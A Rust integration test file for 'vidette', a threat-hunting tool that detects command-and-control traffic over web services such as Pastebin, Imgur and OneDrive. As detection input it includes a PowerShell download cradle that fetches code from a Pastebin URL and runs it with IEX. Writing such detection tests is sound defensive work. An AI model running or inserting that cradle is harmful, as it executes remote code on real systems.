//! `hunt`, and what is done with its alerts: `ingest` before it, `coverage`, `investigate`.

use crate::alerts;
use crate::common::{root, text, vidette};

#[test]
fn hunt_finds_the_four_tests_and_nothing_benign() {
    let output = vidette(&["hunt", "samples/"]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    let alerts = alerts(&output);
    let hardened: Vec<&serde_json::Value> = alerts.iter().filter(|alert| alert["ruleName"] == "Bidirectional communication over web services").collect();
    let host = |alert: &serde_json::Value| alert["rows"][0]["DeviceName"].as_str().unwrap_or_default().to_owned();
    let mut devices: Vec<String> = hardened.iter().map(|alert| host(alert)).collect();
    devices.sort();
    devices.dedup();
    assert_eq!(devices, ["dev-lt-19.contoso.example", "srv-app-01.contoso.example", "wks-fin-07.contoso.example", "wks-hr-02.contoso.example"]);
    assert!(hardened.iter().all(|alert| alert["severity"] == "High"));
    let baseline: Vec<String> = alerts.iter().filter(|alert| alert["ruleName"].as_str().unwrap_or_default().contains("baseline")).map(host).collect();
    assert_eq!(baseline, ["wks-hr-02.contoso.example", "wks-hr-02.contoso.example"], "the baseline sees the two connections to the paste site only");
    assert!(text(&output.stderr).contains("6 files, 59 events"));
}

#[test]
fn hunt_stays_quiet_on_the_benign_samples() {
    let output = vidette(&["hunt", "samples/benign.sysmon.jsonl", "samples/benign-portal-export.csv", "--fail-on-alert"]);
    assert_eq!(output.status.code(), Some(0));
    assert!(output.stdout.is_empty(), "{}", text(&output.stdout));
}

#[test]
fn coverage_says_which_rules_can_fire_and_why_not() {
    let output = vidette(&["coverage", "samples/", "--format", "json"]);
    let report: serde_json::Value = serde_json::from_slice(&output.stdout).expect("JSON");
    assert_eq!((&report["rules"][0]["canFire"], &report["rules"][1]["canFire"]), (&"yes".into(), &"in part".into()), "{report}");
    assert_eq!(report["rules"][1]["why"][0], "DeviceEvents has no row of PowerShellCommand");
    assert_eq!(report["hosts"].as_array().map(Vec::len), Some(4));
    // Without DNS and with no network names, the hardened rule still has the command lines.
    let folder = tempfile::tempdir().expect("a folder");
    let process = r#"{"Timestamp":"2026-03-10T08:00:00Z","Type":"DeviceProcessEvents","DeviceName":"h","ActionType":"ProcessCreated","FileName":"a.exe","ProcessCommandLine":"a"}"#;
    std::fs::write(folder.path().join("p.jsonl"), process).expect("a file");
    let output = vidette(&["coverage", &folder.path().to_string_lossy(), "--format", "ndjson"]);
    let rules: Vec<serde_json::Value> = text(&output.stdout).lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
    assert_eq!(rules[0]["canFire"], "no", "{rules:?}");
    assert_eq!(rules[0]["why"][0], "no rows in DeviceNetworkEvents");
    assert_eq!((&rules[1]["canFire"], &rules[1]["why"][1]), (&"in part".into(), &"no rows in DeviceEvents".into()), "{rules:?}");
}

/// The files under a folder.
fn walk(folder: &std::path::Path) -> Vec<std::path::PathBuf> {
    let entries = std::fs::read_dir(folder).expect("a folder").map(|entry| entry.expect("an entry").path());
    entries.flat_map(|path| if path.is_dir() { walk(&path) } else { vec![path] }).collect()
}

#[test]
fn a_folder_that_was_ingested_gives_the_same_alerts() {
    let folder = tempfile::tempdir().expect("a folder");
    let store = folder.path().join("store").to_string_lossy().into_owned();
    let output = vidette(&["ingest", "samples/", "--to", &store]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    let titles = |paths: &str| -> Vec<String> {
        let output = vidette(&["hunt", paths, "--format", "json"]);
        let alerts: serde_json::Value = serde_json::from_slice(&output.stdout).expect("JSON");
        alerts["alerts"].as_array().into_iter().flatten().map(|alert| format!("{} {}", alert["time"], alert["title"])).collect()
    };
    let direct = titles("samples/");
    assert!(!direct.is_empty());
    assert_eq!(titles(&store), direct);
    let report = |command: &str, paths: &str| text(&vidette(&[command, paths, "--format", "json"]).stdout);
    let tables = report("tables", &store);
    assert!(tables.contains(r#"{"table":"DeviceProcessEvents","rows":14,"first":"2026-03-10T08:00:10.0120000Z","last":"2026-03-10T13:47:20.1234567Z","devices":4}"#), "{tables}");
    assert!(tables.contains(r#"{"signal":"DNS query","events":19}"#), "{tables}");
    assert_eq!(tables, report("tables", "samples/"));
    assert_eq!(report("coverage", &store), report("coverage", "samples/"));
    // A part that is damaged leaves the others.
    let parts = walk(&folder.path().join("store/WindowsEvent"));
    std::fs::write(folder.path().join("whole"), std::fs::read(&parts[0]).expect("a part")).expect("a copy");
    std::fs::write(&parts[0], b"PAR1 but nothing more").expect("a part");
    for command in ["tables", "coverage"] {
        let output = vidette(&[command, &store, "--format", "json"]);
        assert_eq!(output.status.code(), Some(3), "{command}");
        assert!(text(&output.stdout).starts_with('{') && text(&output.stderr).contains(&parts[0].to_string_lossy().into_owned()), "{command}: {}", text(&output.stderr));
    }
    std::fs::rename(folder.path().join("whole"), &parts[0]).expect("the part again");
    // What could not be read is no file that was read.
    let broken = folder.path().join("broken.zip");
    std::fs::write(&broken, b"PK\x03\x04 not really").expect("a file");
    for _ in 0..2 {
        let output = vidette(&["ingest", &broken.to_string_lossy(), "--to", &store]);
        assert_eq!(output.status.code(), Some(3), "{}", text(&output.stderr));
    }
    let again = vidette(&["ingest", "samples/", "--to", &store]);
    assert!(text(&again.stderr).contains("0 files (6 known before"), "{}", text(&again.stderr));
}

#[test]
fn a_copy_of_a_log_gives_no_alert_twice() {
    let folder = tempfile::tempdir().expect("a folder");
    let sample = std::fs::read(root().join("samples/test1-dropbox-powershell.sysmon.jsonl")).expect("a sample");
    let alerts = |files: &[&str]| {
        files.iter().for_each(|name| std::fs::write(folder.path().join(name), &sample).expect("a file"));
        let output = text(&vidette(&["hunt", &folder.path().to_string_lossy(), "--format", "ndjson"]).stdout);
        let alerts = output.lines().map(|line| serde_json::from_str::<serde_json::Value>(line).expect("JSON"));
        alerts.map(|alert| format!("{} {} {}", alert["time"], alert["title"], alert["customDetails"]["Events"])).collect::<Vec<_>>()
    };
    let once = alerts(&["a.jsonl"]);
    assert!(!once.is_empty());
    assert_eq!(alerts(&["a.jsonl", "copy.jsonl"]), once);
}

/// What the hardened rule says of one event.
fn hardened(event: &str) -> Vec<String> {
    let folder = tempfile::tempdir().expect("a folder");
    std::fs::write(folder.path().join("event.jsonl"), event).expect("a file");
    let output = vidette(&["hunt", &folder.path().to_string_lossy(), "--format", "ndjson"]);
    let lines = text(&output.stdout);
    let alerts = lines.lines().map(|line| serde_json::from_str::<serde_json::Value>(line).expect("JSON"));
    alerts.filter(|alert| alert["ruleName"] == "Bidirectional communication over web services").map(|alert| format!("{} {}", alert["severity"], alert["title"])).collect()
}

#[test]
fn script_blocks_jobs_and_sensors_are_evidence_too() {
    let event = |provider: &str, id: u32, data: &str| {
        format!(
            r#"{{"Event":{{"System":{{"Provider":{{"Name":"{provider}"}},"EventID":{id},"TimeCreated":{{"SystemTime":"2026-03-10T09:00:00Z"}},"EventRecordID":7,"Channel":"c","Computer":"h","Execution":{{"ProcessID":44}}}},"EventData":{data}}}}}"#
        )
    };
    let block = |text: &str| {
        event("Microsoft-Windows-PowerShell", 4104, &serde_json::json!({"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": text, "ScriptBlockId": "s"}).to_string())
    };
    let job = |title: &str, url: &str| event("Microsoft-Windows-Bits-Client", 59, &serde_json::json!({"name": title, "Id": "{1}", "url": url, "bytesTotal": "1"}).to_string());
    let cradle = "# a comment\nIEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/abcd')";
    assert_eq!(hardened(&block(cradle)), [r#""High" "powershell.exe on h uses Pastebin""#]);
    assert_eq!(hardened(&job("539cd7d7.png", "https://i.imgur.com/539cd7d7.png")), [r#""Medium" "svchost.exe on h uses Imgur""#]);
    let sensor = r#"{"ts":1773133200.5,"uid":"C1","id.orig_h":"10.0.1.5","id.orig_p":50000,"id.resp_h":"13.107.42.12","id.resp_p":443,"server_name":"d.docs.live.net"}"#;
    assert_eq!(hardened(sensor), [r#""High" "a program on 10.0.1.5 uses OneDrive WebDAV/consumer storage""#]);
    // Near misses: a module that names its home, an updater's job, a browser's host at the sensor.
    assert!(hardened(&block("@{ ModuleVersion = '2.1'; ProjectUri = 'https://github.com/a/b' }\nInvoke-WebRequest $Uri")).is_empty());
    assert!(hardened(&job("Chrome Component Updater", "https://storage.googleapis.com/update/x.crx3")).is_empty());
    assert!(hardened(&sensor.replace("d.docs.live.net", "github.com")).is_empty());
}

#[test]
fn an_alert_is_investigated_with_its_tree_and_its_timeline() {
    let folder = tempfile::tempdir().expect("a folder");
    let page = folder.path().join("case.html");
    let output = vidette(&["investigate", "samples", "--alert", "cmd.exe on srv-app-01", "--json", "--html", &page.display().to_string()]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    let case: serde_json::Value = serde_json::from_str(&text(&output.stdout)).expect("JSON");
    let tree: Vec<(&str, bool)> = case["tree"].as_array().expect("a tree").iter().map(|node| (node["fileName"].as_str().expect("a name"), node["isSubject"] == true)).collect();
    assert_eq!(tree, [("taskeng.exe", false), ("cmd.exe", true), ("net.exe", false), ("powershell.exe", false)]);
    let own: Vec<&str> =
        case["timeline"].as_array().expect("a timeline").iter().filter(|moment| moment["ofSubject"] == true).map(|moment| moment["detail"].as_str().expect("text")).collect();
    assert!(own.iter().any(|detail| detail.contains("net use Z:")), "{own:?}");
    let failed: Vec<&serde_json::Value> = case["sections"].as_array().expect("sections").iter().filter(|section| section.get("error").is_some()).collect();
    assert!(failed.is_empty(), "{failed:?}");
    let page = std::fs::read_to_string(page).expect("a page");
    assert!(page.contains("<svg") && page.contains("d.docs.live.net") && !page.contains("<script"));
    // A rule that tells no process id: the event at its time does.
    let output = vidette(&["investigate", "samples", "--alert", "connected to pastebin.com", "--json"]);
    let case: serde_json::Value = serde_json::from_str(&text(&output.stdout)).expect("JSON");
    assert_eq!(case["subject"]["processId"], 7788);
    let output = vidette(&["investigate", "samples", "--alert", "99"]);
    assert_eq!(output.status.code(), Some(3));
    assert!(text(&output.stderr).contains("no alert `99` among 8"), "{}", text(&output.stderr));
}
